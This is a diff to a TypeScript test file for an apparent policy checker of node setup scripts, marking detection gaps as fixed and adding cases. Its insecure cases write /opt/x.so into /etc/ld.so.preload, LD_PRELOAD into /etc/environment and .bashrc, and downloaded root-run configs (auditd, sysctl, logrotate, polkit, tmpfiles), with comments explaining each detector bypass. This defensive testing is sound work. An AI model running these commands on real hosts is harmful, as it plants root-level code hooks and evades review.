@@ -65,7 +65,7 @@ const dl = (path: string) => `curl -fsSL -o ${path} https://downloads.example.co
 
 const insecure: NodeCase[] = [
     // ---- systemd-escape output may be empty ----
-    // MISS: insecure accepted (got []). systemd src/basic/unit-name.c: unit_name_escape(f) allocates strlen(f)*4+1 and
+    // Was a MISS (fixed in round 78): insecure accepted (got []). systemd src/basic/unit-name.c: unit_name_escape(f) allocates strlen(f)*4+1 and
     // escapes each character, so "" gives "" and `systemd-escape ""` prints an empty line (command substitution drops
     // the newline: bash(1) "Command Substitution"). With UNK empty (the environment's, unset) the target is
     // /etc//ld.so.preload, i.e. /etc/ld.so.preload (path_resolution(7): a pathname's components are separated by "/";
@@ -80,24 +80,24 @@ const insecure: NodeCase[] = [
         'E1 echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload" (empty escape: /etc//ld.so.preload)',
         devNodeScript(n("e1"), [SO, 'echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/ld.so.preload"']),
         /./,
-        MISS,
     ),
-    // MISS: as E1, assigned first (bash(1): an assignment's value undergoes command substitution; "" is kept).
+    // Was a MISS (fixed in round 78): as E1, assigned first (bash(1): an assignment's value undergoes command substitution; "" is kept).
     devNodeCase(
         'E2 D=$(systemd-escape "$UNK"); echo /opt/x.so > "/etc/$D/ld.so.preload"',
         devNodeScript(n("e2"), [SO, 'D=$(systemd-escape "$UNK")', 'echo /opt/x.so > "/etc/$D/ld.so.preload"']),
         /./,
-        MISS,
     ),
-    // MISS: as E1, /etc/environment (pam_env(8): read into every PAM session, root's) gets LD_PRELOAD of a download.
+    // Was a MISS (fixed in round 78): as E1, /etc/environment (pam_env(8): read into every PAM session, root's) gets LD_PRELOAD of a download.
     devNodeCase(
         'E3 LD_PRELOAD >> "/etc/$(systemd-escape "$UNK")/environment"',
         devNodeScript(n("e3"), [SO, `echo 'LD_PRELOAD=/opt/x.so' >> "/etc/$(systemd-escape "$UNK")/environment"`]),
         /./,
-        MISS,
     ),
     // MISS: as E1, a link of a downloaded script at /etc/profile.d/ops.sh (the same link with a literal path is
     // refused: L0); two empty escapes in a row too (E4b).
+    // Still open (round 78): the write-side pattern now drops an empty component (RootReads.unknownTarget), but a link
+    // whose LINK path holds an unknown part is read by rootWrites.ts's link reader (WrittenLink), not unknownTarget:
+    // it needs the same optional-component match where links are judged.
     devNodeCase(
         'E4 ln -s /opt/ops.sh "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh"',
         devNodeScript(n("e4"), [DL, 'ln -s /opt/ops.sh "/etc/profile.d/$(systemd-escape "$UNK")/ops.sh"']),
@@ -111,7 +111,16 @@ const insecure: NodeCase[] = [
             'echo /opt/x.so > "/etc/$(systemd-escape "$UNK")/$(systemd-escape "$UNK2")/ld.so.preload"',
         ]),
         /./,
-        MISS,
+    ),
+    // Round 78 neighbours: a component of one-word outputs only may be empty (POSIX "Pathname": successive slashes are
+    // one), a hostname's too; with --suffix the escape is never empty (".conf" stays).
+    devNodeCase(
+        'E1-fix78 LD_PRELOAD >> "/etc/$(hostname)/environment" (a component of one output only)',
+        devNodeScript(n("e1f"), [SO, `echo 'LD_PRELOAD=/opt/x.so' >> "/etc/$(hostname)/environment"`]),
+    ),
+    devNodeCase(
+        'E2-fix78 "/root/$(systemd-escape "$UNK")/.bashrc" gets LD_PRELOAD',
+        devNodeScript(n("e2f"), [`echo 'export LD_PRELOAD=/opt/x.so' >> "/root/$(systemd-escape "$UNK")/.bashrc"`]),
     ),
     // Held: the escape inside a component with literal text (may be empty: /etc/ld.so.preload, matched).
     devNodeCase(
@@ -144,7 +153,7 @@ const insecure: NodeCase[] = [
         "L0c control: timeout -s KILL 60 dd of=ld.so.preload in /etc",
         devNodeScript(n("l0c"), ["cd /etc", SO, "echo /opt/x.so | timeout -s KILL 60 dd of=ld.so.preload"]),
     ),
-    // MISS: insecure accepted (got []). GNU coreutils timeout(1): "-s, --signal=SIGNAL", "-k, --kill-after=DURATION"
+    // Was a MISS (fixed in round 78): insecure accepted (got []). GNU coreutils timeout(1): "-s, --signal=SIGNAL", "-k, --kill-after=DURATION"
     // ("Mandatory arguments to long options are mandatory for short options too"); getopt_long(3): a required
     // argument "may be written ... as the next argument", so `timeout --signal KILL 60 dd ...` runs dd as root.
     // shell.ts parseUse: a long option takes the next word only if listed in WRAPPERS[name].long; timeout has none,
@@ -156,75 +165,82 @@ const insecure: NodeCase[] = [
         "W1 timeout --signal KILL 60 dd of=/etc/ld.so.preload",
         devNodeScript(n("w1"), [SO, "echo /opt/x.so | timeout --signal KILL 60 dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "W2 cd /etc; timeout --signal KILL 60 dd of=ld.so.preload",
         devNodeScript(n("w2"), ["cd /etc", SO, "echo /opt/x.so | timeout --signal KILL 60 dd of=ld.so.preload"]),
         /./,
-        MISS,
     ),
-    // MISS: GNU nice(1) "-n, --adjustment=N". As W1.
+    // Was a MISS (fixed in round 78): GNU nice(1) "-n, --adjustment=N". As W1.
     devNodeCase(
         "W3 nice --adjustment 5 dd of=/etc/ld.so.preload",
         devNodeScript(n("w3"), [SO, "echo /opt/x.so | nice --adjustment 5 dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "W4 cd /etc; nice --adjustment 5 sh -c 'echo > ld.so.preload'",
         devNodeScript(n("w4"), [SO, "cd /etc", "nice --adjustment 5 sh -c 'echo /opt/x.so > ld.so.preload'"]),
         /./,
-        MISS,
     ),
-    // MISS: sudo(8) "-T timeout, --command-timeout=timeout" takes a value; WRAPPERS.sudo.values ("ugCDhprtU") lacks T,
+    // Was a MISS (fixed in round 78): sudo(8) "-T timeout, --command-timeout=timeout" takes a value; WRAPPERS.sudo.values ("ugCDhprtU") lacks T,
     // so "60" is read as the program.
     devNodeCase(
         "W5 sudo -T 60 dd of=/etc/ld.so.preload",
         devNodeScript(n("w5"), [SO, "echo /opt/x.so | sudo -T 60 dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "W6 sudo -T 60 sh -c 'cd /etc && echo > ld.so.preload' (the launched shell unread)",
         devNodeScript(n("w6"), [SO, "cd /tmp", "sudo -T 60 sh -c 'cd /etc && echo /opt/x.so > ld.so.preload'"]),
         /./,
-        MISS,
     ),
-    // MISS: sudo(8) "-R directory, --chroot=directory" (sudo 1.9.3+): `-R /` changes nothing but takes "/" as value.
+    // Was a MISS (fixed in round 78): sudo(8) "-R directory, --chroot=directory" (sudo 1.9.3+): `-R /` changes nothing but takes "/" as value.
     devNodeCase(
         "W7 sudo -R / dd of=/etc/ld.so.preload",
         devNodeScript(n("w7"), [SO, "echo /opt/x.so | sudo -R / dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
-    // MISS: GNU stdbuf(1) "-o, --output=MODE".
+    // Was a MISS (fixed in round 78): GNU stdbuf(1) "-o, --output=MODE".
     devNodeCase(
         "W8 stdbuf --output L dd of=/etc/ld.so.preload",
         devNodeScript(n("w8"), [SO, "echo /opt/x.so | stdbuf --output L dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
-    // MISS: util-linux ionice(1) "-c, --class class".
+    // Was a MISS (fixed in round 78): util-linux ionice(1) "-c, --class class".
     devNodeCase(
         "W9 ionice --class 3 dd of=/etc/ld.so.preload",
         devNodeScript(n("w9"), [SO, "echo /opt/x.so | ionice --class 3 dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
-    // MISS: util-linux chrt(1) "-T, --sched-runtime nanoseconds" (with -d: SCHED_DEADLINE).
+    // Was a MISS (fixed in round 78): util-linux chrt(1) "-T, --sched-runtime nanoseconds" (with -d: SCHED_DEADLINE).
     devNodeCase(
         "W10 chrt --sched-runtime 1000000 -d 0 dd of=/etc/ld.so.preload",
         devNodeScript(n("w10"), [SO, "echo /opt/x.so | chrt --sched-runtime 1000000 -d 0 dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
     ),
-    // MISS: GNU time(1) "-o FILE, --output=FILE".
+    // Was a MISS (fixed in round 78): GNU time(1) "-o FILE, --output=FILE".
     devNodeCase(
         "W11 /usr/bin/time --output /tmp/t dd of=/etc/ld.so.preload",
         devNodeScript(n("w11"), [SO, "echo /opt/x.so | /usr/bin/time --output /tmp/t dd of=/etc/ld.so.preload"]),
         /./,
-        MISS,
+    ),
+    // getopt_long(3): "Long option names may be abbreviated if the abbreviation is unique", so `--sig KILL` is
+    // `--signal KILL` (shell.ts longOptionName).
+    devNodeCase(
+        "W1-fix78 timeout --sig KILL 60 dd of=/etc/ld.so.preload (abbreviated long option)",
+        devNodeScript(n("w1f"), [SO, "echo /opt/x.so | timeout --sig KILL 60 dd of=/etc/ld.so.preload"]),
+    ),
+    // An option timeout(1) does not list (another version may take the next word as its value): which word is the
+    // program cannot be told, so the command line is unreadable (fail closed).
+    devNodeCase(
+        "W2-fix78 timeout --frob 60 dd of=/etc/ld.so.preload (an option the pack does not know)",
+        devNodeScript(n("w2f"), [SO, "echo /opt/x.so | timeout --frob 60 dd of=/etc/ld.so.preload"]),
+        /an option the pack does not know/,
+    ),
+    // sudo(8) "-T timeout" then stdbuf(1) "-e, --error=MODE" given as the next word.
+    devNodeCase(
+        "W3-fix78 sudo -T 60 stdbuf --error 0 dd of=/etc/ld.so.preload (nested)",
+        devNodeScript(n("w3f"), [SO, "echo /opt/x.so | sudo -T 60 stdbuf --error 0 dd of=/etc/ld.so.preload"]),
     ),
     // Held: forms whose target names a judged file anyway, or whose shell line is read.
     devNodeCase(
@@ -257,7 +273,7 @@ const insecure: NodeCase[] = [
     ),
     devNodeCase("W19 sudo -T 300 /data/hook.sh", devNodeScript(n("w19"), [`sudo -T 300 ${HOOK}`])),
     // ---- auditd.conf the pack cannot read ----
-    // MISS: insecure accepted (got []). auditd.conf(5) plugin_dir: "the location that auditd will use to search for
+    // Was a MISS (fixed in round 78): insecure accepted (got []). auditd.conf(5) plugin_dir: "the location that auditd will use to search for
     // its plugin configuration files"; space_left_action/disk_full_action "exec /path-to-script" run a program as
     // root. A downloaded auditd.conf can set `plugin_dir = /data/plugins` (refused when written literally: A4) and
     // hand pods auditd's root children, as a downloaded /etc/audit/plugins.d conf does (refused: A9).
@@ -266,25 +282,22 @@ const insecure: NodeCase[] = [
     // a program or loads code as root (auditd.conf, sysctl.conf/sysctl.d, logrotate, rsyslog, polkit rules ...)
     // joins READ_BEFORE_WRITE: content the pack cannot read there (download, copy, template, append of a download)
     // is refused.
-    devNodeCase("A1 curl -o /etc/audit/auditd.conf", devNodeScript(n("a1"), [dl("/etc/audit/auditd.conf")]), /./, MISS),
+    devNodeCase("A1 curl -o /etc/audit/auditd.conf", devNodeScript(n("a1"), [dl("/etc/audit/auditd.conf")]), /./),
     devNodeCase(
         "A2 cat a download >> /etc/audit/auditd.conf",
         devNodeScript(n("a2"), [dl("/opt/audit.frag"), "cat /opt/audit.frag >> /etc/audit/auditd.conf"]),
         /./,
-        MISS,
     ),
-    // MISS: envsubst(1) substitutes the environment's values into a template the pack cannot read.
+    // Was a MISS (fixed in round 78): envsubst(1) substitutes the environment's values into a template the pack cannot read.
     devNodeCase(
         "A5 envsubst < /opt/auditd.conf.tmpl > /etc/audit/auditd.conf",
         devNodeScript(n("a5"), ["envsubst < /opt/auditd.conf.tmpl > /etc/audit/auditd.conf"]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "A8 install -m 0640 a download /etc/audit/auditd.conf",
         devNodeScript(n("a8"), [dl("/tmp/auditd.conf"), "install -m 0640 /tmp/auditd.conf /etc/audit/auditd.conf"]),
         /./,
-        MISS,
     ),
     // Held.
     devNodeCase(
@@ -316,64 +329,45 @@ const insecure: NodeCase[] = [
         devNodeScript(n("a9"), [dl("/etc/audit/plugins.d/x.conf")]),
     ),
     // ---- other configuration the pack cannot read ----
-    // MISS: sysctl.d(5): "At boot, systemd-sysctl.service(8) reads configuration files from the above directories"
+    // Was a MISS (fixed in round 78): sysctl.d(5): "At boot, systemd-sysctl.service(8) reads configuration files from the above directories"
     // (/etc/sysctl.d, /run/sysctl.d, /usr/lib/sysctl.d); core(5): a core_pattern starting with "|" is "a program
     // that is run as root"; kernel.modprobe is the program the kernel runs to load modules. A downloaded file there
     // may name /data/hook (refused when written: Y1-Y4). Not in READ_BEFORE_WRITE. Fix: as A1.
-    devNodeCase(
-        "U1 downloaded /etc/sysctl.d/90-x.conf",
-        devNodeScript(n("u1"), [dl("/etc/sysctl.d/90-x.conf")]),
-        /./,
-        MISS,
-    ),
+    devNodeCase("U1 downloaded /etc/sysctl.d/90-x.conf", devNodeScript(n("u1"), [dl("/etc/sysctl.d/90-x.conf")]), /./),
     devNodeCase(
         "U2 downloaded /etc/sysctl.conf (a judged file)",
         devNodeScript(n("u2"), [dl("/etc/sysctl.conf")]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "U3 downloaded /usr/lib/sysctl.d/90-x.conf",
         devNodeScript(n("u3"), [dl("/usr/lib/sysctl.d/90-x.conf")]),
         /./,
-        MISS,
     ),
-    devNodeCase(
-        "U4 downloaded /run/sysctl.d/90-x.conf",
-        devNodeScript(n("u4"), [dl("/run/sysctl.d/90-x.conf")]),
-        /./,
-        MISS,
-    ),
-    // MISS: sysctl(8) "-p[FILE], --load[=FILE]: Load in sysctl settings from the file specified".
+    devNodeCase("U4 downloaded /run/sysctl.d/90-x.conf", devNodeScript(n("u4"), [dl("/run/sysctl.d/90-x.conf")]), /./),
+    // Was a MISS (fixed in round 78): sysctl(8) "-p[FILE], --load[=FILE]: Load in sysctl settings from the file specified".
     devNodeCase(
         "U5 sysctl -p a downloaded file",
         devNodeScript(n("u5"), [dl("/opt/s.conf"), "sysctl -p /opt/s.conf"]),
         /./,
-        MISS,
     ),
-    // MISS: logrotate(8): the lines between postrotate and endscript "are executed (using /bin/sh)" as logrotate's
+    // Was a MISS (fixed in round 78): logrotate(8): the lines between postrotate and endscript "are executed (using /bin/sh)" as logrotate's
     // user (root, logrotate.service); logrotate.conf includes /etc/logrotate.d. rootReads.ts reads known text
     // (RootReads.logrotate) only.
-    devNodeCase("U6 downloaded /etc/logrotate.conf", devNodeScript(n("u6"), [dl("/etc/logrotate.conf")]), /./, MISS),
-    devNodeCase("U7 downloaded /etc/logrotate.d/x", devNodeScript(n("u7"), [dl("/etc/logrotate.d/x")]), /./, MISS),
-    // MISS: rsyslog omprog "Executes the configured program" (binary=), and the legacy "execute program (^)" action;
+    devNodeCase("U6 downloaded /etc/logrotate.conf", devNodeScript(n("u6"), [dl("/etc/logrotate.conf")]), /./),
+    devNodeCase("U7 downloaded /etc/logrotate.d/x", devNodeScript(n("u7"), [dl("/etc/logrotate.d/x")]), /./),
+    // Was a MISS (fixed in round 78): rsyslog omprog "Executes the configured program" (binary=), and the legacy "execute program (^)" action;
     // rsyslogd runs as root on AL2023. Known text naming /data is refused (cloud-config rsyslog: C9).
-    devNodeCase(
-        "U8 downloaded /etc/rsyslog.d/x.conf",
-        devNodeScript(n("u8"), [dl("/etc/rsyslog.d/x.conf")]),
-        /./,
-        MISS,
-    ),
-    devNodeCase("U8b downloaded /etc/rsyslog.conf", devNodeScript(n("u8b"), [dl("/etc/rsyslog.conf")]), /./, MISS),
-    // MISS: polkit(8) rules.d JavaScript decides every privileged D-Bus action (systemd unit management); the pack
+    devNodeCase("U8 downloaded /etc/rsyslog.d/x.conf", devNodeScript(n("u8"), [dl("/etc/rsyslog.d/x.conf")]), /./),
+    devNodeCase("U8b downloaded /etc/rsyslog.conf", devNodeScript(n("u8b"), [dl("/etc/rsyslog.conf")]), /./),
+    // Was a MISS (fixed in round 78): polkit(8) rules.d JavaScript decides every privileged D-Bus action (systemd unit management); the pack
     // judges known rules (Y9: "the users the polkit rule names") but not downloaded ones.
     devNodeCase(
         "U9 downloaded /etc/polkit-1/rules.d/10-x.rules",
         devNodeScript(n("u9"), [dl("/etc/polkit-1/rules.d/10-x.rules")]),
         /./,
-        MISS,
     ),
-    // MISS: tmpfiles.d(5) SYNOPSIS: "/etc/tmpfiles.d/*.conf /run/tmpfiles.d/*.conf /usr/local/lib/tmpfiles.d/*.conf
+    // Was a MISS (fixed in round 78): tmpfiles.d(5) SYNOPSIS: "/etc/tmpfiles.d/*.conf /run/tmpfiles.d/*.conf /usr/local/lib/tmpfiles.d/*.conf
     // /usr/lib/tmpfiles.d/*.conf"; `w PATH - - - - CONTENT` writes CONTENT to PATH at boot (as root). rootReads.ts
     // RootReads.file's tmpfiles regex `/^\/(etc|run|usr\/lib|lib)\/tmpfiles\.d\//` and READ_BEFORE_WRITE's omit
     // /usr/local/lib. Fix: one list of tmpfiles.d directories from tmpfiles.d(5) used by both.
@@ -385,13 +379,50 @@ const insecure: NodeCase[] = [
             "echo 'w /etc/ld.so.preload - - - - /opt/x.so' > /usr/local/lib/tmpfiles.d/p.conf",
         ]),
         /./,
-        MISS,
     ),
     devNodeCase(
         "T2 downloaded /usr/local/lib/tmpfiles.d/x.conf",
         devNodeScript(n("t2"), [dl("/usr/local/lib/tmpfiles.d/x.conf")]),
         /./,
-        MISS,
+    ),
+    // Round 78 neighbours: READ_BEFORE_WRITE's other command-running readers, content the pack cannot read.
+    // sysctl.d(5) lists /usr/local/lib/sysctl.d too (shared.ts confDirectoryPath).
+    devNodeCase(
+        "U1-fix78 cp a download to /usr/local/lib/sysctl.d/90-x.conf",
+        devNodeScript(n("u1f"), [dl("/opt/s.conf"), "cp /opt/s.conf /usr/local/lib/sysctl.d/90-x.conf"]),
+    ),
+    // sysctl(8) "-f: Alias of -p", "--load[=FILE]".
+    devNodeCase(
+        "U2-fix78 sysctl --load=FILE of a download",
+        devNodeScript(n("u2f"), [dl("/opt/s.conf"), "sysctl --load=/opt/s.conf"]),
+    ),
+    // syslog-ng's program() destination runs a program as the daemon's user (root).
+    devNodeCase(
+        "U3-fix78 envsubst into /etc/syslog-ng/conf.d/x.conf",
+        devNodeScript(n("u3f"), ["envsubst < /opt/x.tmpl > /etc/syslog-ng/conf.d/x.conf"]),
+    ),
+    // NetworkManager-dispatcher(8) runs the scripts of dispatcher.d as root on network events.
+    devNodeCase(
+        "U4-fix78 downloaded /etc/NetworkManager/dispatcher.d/90-x",
+        devNodeScript(n("u4f"), [dl("/etc/NetworkManager/dispatcher.d/90-x")]),
+    ),
+    // polkit(8): /usr/share/polkit-1/rules.d is read as /etc's is.
+    devNodeCase(
+        "U5-fix78 downloaded /usr/share/polkit-1/rules.d/10-x.rules",
+        devNodeScript(n("u5f"), [dl("/usr/share/polkit-1/rules.d/10-x.rules")]),
+    ),
+    // modules-load.d(5) lists /usr/local/lib/modules-load.d; tmpfiles.d(5) /run/tmpfiles.d.
+    devNodeCase(
+        "T1-fix78 downloaded /usr/local/lib/modules-load.d/x.conf",
+        devNodeScript(n("t1f"), [dl("/usr/local/lib/modules-load.d/x.conf")]),
+    ),
+    devNodeCase(
+        "T2-fix78 /run/tmpfiles.d: w /etc/ld.so.preload - - - - /opt/x.so",
+        devNodeScript(n("t2f"), [
+            SO,
+            "mkdir -p /run/tmpfiles.d",
+            "echo 'w /etc/ld.so.preload - - - - /opt/x.so' > /run/tmpfiles.d/p.conf",
+        ]),
     ),
     // Held: downloaded configuration of other readers.
     ...[
@@ -698,6 +729,30 @@ const secure: NodeCase[] = [
         "S3 sudo -u nobody timeout 60 /usr/bin/true",
         devNodeScript(n("s3"), ["sudo -u nobody timeout 60 /usr/bin/true"]),
     ),
+    // The next-word forms of documented options (getopt_long(3) "--arg param"), the command an image program.
+    devNodeCase(
+        "S1-fix78 sudo -T 60 timeout --signal KILL --kill-after 5 300 nice --adjustment 5 /usr/bin/true",
+        devNodeScript(n("s1f"), [
+            "sudo -T 60 timeout --signal KILL --kill-after 5 300 nice --adjustment 5 /usr/bin/true",
+        ]),
+    ),
+    devNodeCase(
+        "S2-fix78 ionice --class 3 stdbuf --output L chrt --idle 0 /usr/bin/time --output /tmp/t /usr/bin/true",
+        devNodeScript(n("s2f"), [
+            "ionice --class 3 stdbuf --output L chrt --idle 0 /usr/bin/time --output /tmp/t /usr/bin/true",
+        ]),
+    ),
+    // Known text in the readers READ_BEFORE_WRITE now lists is judged by its own reader (round 78): a logrotate
+    // stanza with no script, an rsyslog forward, a sysctl.d number loaded with sysctl -p.
+    devNodeCase(
+        "S3-fix78 logrotate.d stanza without scripts, rsyslog.d forward, sysctl -p of a known file",
+        devNodeScript(n("s3f"), [
+            "printf '/var/log/app/*.log {\\n  daily\\n  rotate 7\\n  compress\\n}\\n' > /etc/logrotate.d/app",
+            "echo '*.* @@logs.internal.example.com:514' > /etc/rsyslog.d/90-forward.conf",
+            "echo 'vm.max_map_count = 262144' > /usr/local/lib/sysctl.d/90-es.conf",
+            "sysctl -p /usr/local/lib/sysctl.d/90-es.conf",
+        ]),
+    ),
     // auditd.conf(5): email/syslog actions run no program; plugin_dir the default.
     devNodeCase(
         "S4 auditd.conf with known content (space_left_action = email)",
@@ -718,6 +773,11 @@ const secure: NodeCase[] = [
     devNodeCase(
         'S6 a comment > "/etc/$(systemd-escape "$UNK")/ld.so.preload.note"',
         devNodeScript(n("s6"), ['echo \'# rotated by ops\' > "/etc/$(systemd-escape "$UNK")/ld.so.preload.note"']),
+    ),
+    // Round 78: an empty escape drops its component; /opt/app/note.txt is still no file root's programs read.
+    devNodeCase(
+        'S6-fix78 a comment > "/opt/app/$(systemd-escape "$UNK")/note.txt"',
+        devNodeScript(n("s6f"), ["mkdir -p /opt/app", 'echo "# note" > "/opt/app/$(systemd-escape "$UNK")/note.txt"']),
     ),
     // sysctl.d(5): vm.max_map_count is a number; core(5): a core_pattern without "|" names a file, runs nothing.
     devNodeCase(
